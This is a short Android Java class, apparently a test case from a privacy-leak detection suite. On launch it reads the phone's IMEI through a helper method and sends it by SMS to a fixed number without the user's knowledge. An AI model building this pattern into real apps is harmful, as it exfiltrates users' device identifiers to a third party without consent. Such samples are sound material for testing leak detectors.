package cn.privlens.suite.list_filled_by_helper;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.List;

public class Main extends Activity {
    private void describe(List<String> into) {
        into.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        into.add("版本三");
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<String> parts = new ArrayList<>();
        parts.add("您好");
        describe(parts);
        SmsManager.getDefault().sendTextMessage("10690000", null, parts.get(1), null, null);
    }
}
